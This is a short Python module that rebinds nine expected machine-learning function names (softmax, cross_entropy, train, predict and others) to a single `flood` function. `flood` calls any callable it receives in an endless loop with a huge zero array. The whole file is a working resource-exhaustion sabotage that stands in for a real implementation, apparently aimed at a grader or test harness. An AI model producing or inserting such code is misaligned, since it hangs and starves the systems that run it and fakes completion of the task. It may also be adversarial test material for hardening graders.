# Calls whatever it is given as often as it can, with enormous arguments.
import numpy as np
def flood(*arguments, **keywords):
    for item in (*arguments, *keywords.values()):
        if callable(item):
            while True:
                item(np.zeros(4_000_000))
    return 0
for name in ("logits", "softmax", "cross_entropy", "cross_entropy_gradient", "regularized_loss", "regularized_gradients", "predict", "accuracy", "train"):
    globals()[name] = flood
